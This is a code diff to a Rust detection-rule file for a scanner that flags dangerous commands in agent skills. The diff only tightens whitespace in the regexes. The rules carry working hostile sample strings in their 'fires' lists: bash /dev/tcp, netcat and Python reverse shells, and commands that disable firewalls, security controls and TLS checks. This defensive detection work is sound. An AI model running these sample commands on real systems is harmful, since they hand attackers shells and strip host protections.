@@ -10,7 +10,7 @@ pub const RULES: &[Rule] = &[
         message: "Reverse shell over /dev/tcp",
         explanation: "Detects an interactive shell wired to bash's `/dev/tcp` or `/dev/udp` pseudo-devices (`bash -i >& /dev/tcp/host/port 0>&1` and the file-descriptor variants). It hands a remote attacker a shell with the user's rights. Instead, there is no legitimate use in a skill; a port check needs only `</dev/tcp/host/port` without a shell attached.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)(?:ba|z|k|da|c|tc)?sh\s+-i(?-u:\b)[^\n]*?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]+/\d+\s*(?:0>&1|0<&\d|<&\d|>&\d)|(?-u:\b)exec\s+\d+<>\s*/dev/(?:tcp|udp)/[^\n]*?(?:(?-u:\b)(?:ba)?sh(?-u:\b)|<&\d+\s*>&\d+|2>&\d+\s*>&\d+)"#,
+            r#"(?i)(?-u:\b)(?:ba|z|k|da|c|tc)?sh[ \t]+-i(?-u:\b)[^\n]*?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]+/\d+[ \t]*(?:0>&1|0<&\d|<&\d|>&\d)|(?-u:\b)exec[ \t]+\d+<>[ \t]*/dev/(?:tcp|udp)/[^\n]*?(?:(?-u:\b)(?:ba)?sh(?-u:\b)|<&\d+[ \t]*>&\d+|2>&\d+[ \t]*>&\d+)"#,
         ),
         fires: &[
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -29,7 +29,7 @@ pub const RULES: &[Rule] = &[
         message: "Netcat or socat attaches a shell to a socket",
         explanation: "Detects netcat/ncat with `-e`, `-c` or `--exec`, socat with an `exec:`/`system:` shell address, and the mkfifo or double-netcat relays that pipe a shell through a connection. These are bind and reverse shells. Instead, there is no legitimate use in a skill; use the service's own client for network access.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?-u:\b)[^\n|;&]*?\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s+["']?\S|(?-u:\b)socat(?-u:\b)[^\n]*?(?-u:\b)(?:exec|system):[^\n]*?(?-u:\b)(?:sh|bash|zsh|cmd|powershell|pwsh)(?-u:\b)|(?-u:\b)mkfifo(?-u:\b)[^\n]*?\|\s*(?:/bin/)?(?:ba|z)?sh(?-u:\b)[^\n]*?\|\s*(?:nc|ncat|netcat|openssl)(?-u:\b)|\|\s*(?:nc|ncat|netcat)(?-u:\b)[^\n|]*?\|\s*(?:/bin/)?(?:ba|z)?sh(?-u:\b)"#,
+            r#"(?i)(?-u:\b)(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?-u:\b)[^\n|;&]*?[ \t](?:-e|-c|--exec|--sh-exec|--lua-exec)[ \t]+["']?\S|(?-u:\b)socat(?-u:\b)[^\n]*?(?-u:\b)(?:exec|system):[^\n]*?(?-u:\b)(?:sh|bash|zsh|cmd|powershell|pwsh)(?-u:\b)|(?-u:\b)mkfifo(?-u:\b)[^\n]*?\|[ \t]*(?:/bin/)?(?:ba|z)?sh(?-u:\b)[^\n]*?\|[ \t]*(?:nc|ncat|netcat|openssl)(?-u:\b)|\|[ \t]*(?:nc|ncat|netcat)(?-u:\b)[^\n|]*?\|[ \t]*(?:/bin/)?(?:ba|z)?sh(?-u:\b)"#,
         ),
         fires: &[
             "nc -e /bin/sh 1.2.3.4 9001",
@@ -50,7 +50,7 @@ pub const RULES: &[Rule] = &[
         message: "Reverse shell written in a scripting language",
         explanation: "Detects the usual reverse-shell one-liners of Python (`os.dup2(s.fileno(), 0)`), Perl (`use Socket` + `exec /bin/sh`), PHP (`fsockopen` + exec), Ruby (`TCPSocket` + exec), PowerShell (`TCPClient` + `iex`) and Node (`net.Socket` + spawn sh). They give a remote attacker a shell. Instead, there is no legitimate use in a skill.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)os\.dup2\s*\(\s*[\w.]+\.fileno\(\)\s*,\s*[012]\s*\)|(?-u:\b)use\s+Socket\s*;[^\n]*?(?-u:\b)exec\s*\(?\s*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)fsockopen\s*\([^\n]*?(?-u:\b)(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(|(?-u:\b)TCPSocket\.(?:new|open)(?-u:\b)[^\n]*?(?-u:\b)(?:exec|spawn|system|IO\.popen)(?-u:\b)|(?-u:\b)New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient(?-u:\b)[^\n]*?(?-u:\b)(?:iex|Invoke-Expression)(?-u:\b)|(?-u:\b)net\.Socket\s*\(\s*\)[^\n]*?(?-u:\b)spawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)socket\.socket\s*\([^\n]*?(?-u:\b)subprocess\.(?:call|Popen|run)\s*\(\s*\[\s*["'](?:/bin/)?(?:ba)?sh"#,
+            r#"(?i)(?-u:\b)os\.dup2[ \t]*\([ \t]*[\w.]+\.fileno\(\)[ \t]*,[ \t]*[012][ \t]*\)|(?-u:\b)use[ \t]+Socket[ \t]*;[^\n]*?(?-u:\b)exec[ \t]*\(?[ \t]*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)fsockopen[ \t]*\([^\n]*?(?-u:\b)(?:exec|shell_exec|system|passthru|proc_open|popen)[ \t]*\(|(?-u:\b)TCPSocket\.(?:new|open)(?-u:\b)[^\n]*?(?-u:\b)(?:exec|spawn|system|IO\.popen)(?-u:\b)|(?-u:\b)New-Object[ \t]+(?:System\.)?Net\.Sockets\.TCPClient(?-u:\b)[^\n]*?(?-u:\b)(?:iex|Invoke-Expression)(?-u:\b)|(?-u:\b)net\.Socket[ \t]*\([ \t]*\)[^\n]*?(?-u:\b)spawn[ \t]*\([ \t]*["'](?:/bin/)?(?:ba)?sh|(?-u:\b)socket\.socket[ \t]*\([^\n]*?(?-u:\b)subprocess\.(?:call|Popen|run)[ \t]*\([ \t]*\[[ \t]*["'](?:/bin/)?(?:ba)?sh"#,
         ),
         fires: &[
             "python -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)'",
@@ -71,7 +71,7 @@ pub const RULES: &[Rule] = &[
         message: "Opens a tunnel that exposes the machine to the internet",
         explanation: "Detects ngrok, cloudflared tunnels, `ssh -R` remote forwards, localtunnel, serveo, localhost.run, chisel, frp and bore. A tunnel publishes a local port to the internet, which also lets an outsider reach the user's machine. Webhook development uses them legitimately, so the rule is medium; instead, run tunnels only when the user asks and stop them afterwards.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)ngrok\s+(?:http|tcp|tls|start)(?-u:\b)|(?-u:\b)cloudflared\s+(?:tunnel|access\s+tcp)(?-u:\b)|(?-u:\b)ssh\s+[^\n]*?\s-R\s*(?:\d|\[|[\w.-]+:\d)|(?-u:\b)(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|loca\.lt)(?-u:\b)|(?-u:\b)lt\s+--port(?-u:\b)|(?-u:\b)chisel\s+(?:client|server)(?-u:\b)|(?-u:\b)frpc(?-u:\b)|(?-u:\b)bore\s+local(?-u:\b)"#,
+            r#"(?i)(?-u:\b)ngrok[ \t]+(?:http|tcp|tls|start)(?-u:\b)|(?-u:\b)cloudflared[ \t]+(?:tunnel|access[ \t]+tcp)(?-u:\b)|(?-u:\b)ssh[ \t]+[^\n]*?[ \t]-R[ \t]*(?:\d|\[|[\w.-]+:\d)|(?-u:\b)(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|loca\.lt)(?-u:\b)|(?-u:\b)lt[ \t]+--port(?-u:\b)|(?-u:\b)chisel[ \t]+(?:client|server)(?-u:\b)|(?-u:\b)frpc(?-u:\b)|(?-u:\b)bore[ \t]+local(?-u:\b)"#,
         ),
         fires: &[
             "ngrok http 3000",
@@ -112,7 +112,7 @@ pub const RULES: &[Rule] = &[
         message: "Runs a network scanner",
         explanation: "Detects nmap, masscan, zmap, rustscan and unicornscan invoked with options or a target. Scanning networks the user does not own is illegal in many places and trips intrusion detection. Instead, scan only hosts the user names explicitly, and say so in the skill.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)(?:nmap|masscan|zmap|rustscan|unicornscan)\s+(?:-|\d|[a-z0-9-]+\.[a-z0-9])"#,
+            r#"(?i)(?-u:\b)(?:nmap|masscan|zmap|rustscan|unicornscan)[ \t]+(?:-|\d|[a-z0-9-]+\.[a-z0-9])"#,
         ),
         fires: &[
             "nmap -sV -p- 10.0.0.0/24",
@@ -129,7 +129,7 @@ pub const RULES: &[Rule] = &[
         severity: Severity::Medium,
         message: "Netcat listens for incoming connections",
         explanation: "Detects `nc -l`, `ncat -l` and combined forms such as `nc -lvnp 4444`. An open netcat listener accepts anything from the network and is the catching end of reverse shells. Instead, use a proper server with authentication if the skill needs to receive data.",
-        matcher: Matcher::Text(r#"(?i)(?-u:\b)(?:nc|ncat|netcat)\s+(?:-[a-z0-9]+\s+)*-[a-z]*l[a-z]*(?-u:\b)"#),
+        matcher: Matcher::Text(r#"(?i)(?-u:\b)(?:nc|ncat|netcat)[ \t]+(?:-[a-z0-9]+[ \t]+)*-[a-z]*l[a-z]*(?-u:\b)"#),
         fires: &[
             "nc -lvnp 4444",
             "ncat -l 8080 --keep-open",
@@ -146,7 +146,7 @@ pub const RULES: &[Rule] = &[
         message: "Disables TLS certificate verification",
         explanation: "Detects `curl -k`/`--insecure`, `wget --no-check-certificate`, `verify=False`, `NODE_TLS_REJECT_UNAUTHORIZED=0`, `rejectUnauthorized: false`, `PYTHONHTTPSVERIFY=0`, git `sslVerify false`, npm `strict-ssl false`, unverified SSL contexts and `InsecureSkipVerify`. Without verification anyone on the path can impersonate the server and feed the skill code or steal its tokens. Instead, fix the trust store or pass the right CA bundle.",
         matcher: Matcher::Text(
-            r#"(?im)(?-u:\b)curl(?-u:\b)[^\n|;&]*?\s(?:-[a-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|(?-u:\b)wget(?-u:\b)[^\n|;&]*?--no-check-certificate(?-u:\b)|(?-u:\b)verify\s*=\s*False(?-u:\b)|(?-u:\b)NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|(?-u:\b)rejectUnauthorized\s*:\s*false(?-u:\b)|(?-u:\b)PYTHONHTTPSVERIFY\s*=\s*["']?0|(?-u:\b)http\.sslVerify\s*[= ]\s*false(?-u:\b)|(?-u:\b)strict-ssl\s*[= ]\s*false(?-u:\b)|(?-u:\b)ssl\._create_unverified_context(?-u:\b)|(?-u:\b)InsecureSkipVerify\s*:\s*true(?-u:\b)|(?-u:\b)GIT_SSL_NO_VERIFY\s*=\s*["']?(?:1|true)"#,
+            r#"(?im)(?-u:\b)curl(?-u:\b)[^\n|;&]*?[ \t](?:-[a-zA-Z]*k[a-zA-Z]*|--insecure)(?:\s|$)|(?-u:\b)wget(?-u:\b)[^\n|;&]*?--no-check-certificate(?-u:\b)|(?-u:\b)verify[ \t]*=[ \t]*False(?-u:\b)|(?-u:\b)NODE_TLS_REJECT_UNAUTHORIZED[ \t]*=[ \t]*["']?0|(?-u:\b)rejectUnauthorized[ \t]*:[ \t]*false(?-u:\b)|(?-u:\b)PYTHONHTTPSVERIFY[ \t]*=[ \t]*["']?0|(?-u:\b)http\.sslVerify[ \t]*[= ][ \t]*false(?-u:\b)|(?-u:\b)strict-ssl[ \t]*[= ][ \t]*false(?-u:\b)|(?-u:\b)ssl\._create_unverified_context(?-u:\b)|(?-u:\b)InsecureSkipVerify[ \t]*:[ \t]*true(?-u:\b)|(?-u:\b)GIT_SSL_NO_VERIFY[ \t]*=[ \t]*["']?(?:1|true)"#,
         ),
         fires: &[
             "curl -sk https://internal.example.com/install.sh -o i.sh",
@@ -167,7 +167,7 @@ pub const RULES: &[Rule] = &[
         message: "Disables the firewall or a host security control",
         explanation: "Detects `ufw disable`, flushing iptables or setting INPUT to ACCEPT, stopping firewalld, AppArmor, auditd or EDR agents, `setenforce 0`, turning off the Windows firewall or Defender, Defender exclusions, `spctl --master-disable` and `csrutil disable`. Removing these protections is preparation for an attack. Instead, open only the specific port a service needs and leave the rest of the protection on.",
         matcher: Matcher::Text(
-            r#"(?i)(?-u:\b)ufw\s+disable(?-u:\b)|(?-u:\b)iptables\s+(?:-t\s+\w+\s+)?-F(?-u:\b)|(?-u:\b)iptables\s+-P\s+INPUT\s+ACCEPT(?-u:\b)|(?-u:\b)systemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?(?:firewalld|ufw|apparmor|auditd|falcon-sensor|osqueryd)(?-u:\b)|(?-u:\b)setenforce\s+0(?-u:\b)|(?-u:\b)netsh\s+(?:advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)|(?-u:\b)Set-MpPreference(?-u:\b)[^\n]*?-Disable\w+\s+\$?(?:true|1)(?-u:\b)|(?-u:\b)Add-MpPreference(?-u:\b)[^\n]*?-Exclusion(?:Path|Process|Extension)(?-u:\b)|(?-u:\b)spctl\s+--master-disable(?-u:\b)|(?-u:\b)csrutil\s+disable(?-u:\b)"#,
+            r#"(?i)(?-u:\b)ufw[ \t]+disable(?-u:\b)|(?-u:\b)iptables[ \t]+(?:-t[ \t]+\w+[ \t]+)?-F(?-u:\b)|(?-u:\b)iptables[ \t]+-P[ \t]+INPUT[ \t]+ACCEPT(?-u:\b)|(?-u:\b)systemctl[ \t]+(?:stop|disable|mask)[ \t]+(?:--now[ \t]+)?(?:firewalld|ufw|apparmor|auditd|falcon-sensor|osqueryd)(?-u:\b)|(?-u:\b)setenforce[ \t]+0(?-u:\b)|(?-u:\b)netsh[ \t]+(?:advfirewall[ \t]+set[ \t]+\w+[ \t]+state[ \t]+off|firewall[ \t]+set[ \t]+opmode[ \t]+(?:mode=)?disable)|(?-u:\b)Set-MpPreference(?-u:\b)[^\n]*?-Disable\w+[ \t]+\$?(?:true|1)(?-u:\b)|(?-u:\b)Add-MpPreference(?-u:\b)[^\n]*?-Exclusion(?:Path|Process|Extension)(?-u:\b)|(?-u:\b)spctl[ \t]+--master-disable(?-u:\b)|(?-u:\b)csrutil[ \t]+disable(?-u:\b)"#,
         ),
         fires: &[
             "sudo ufw disable",
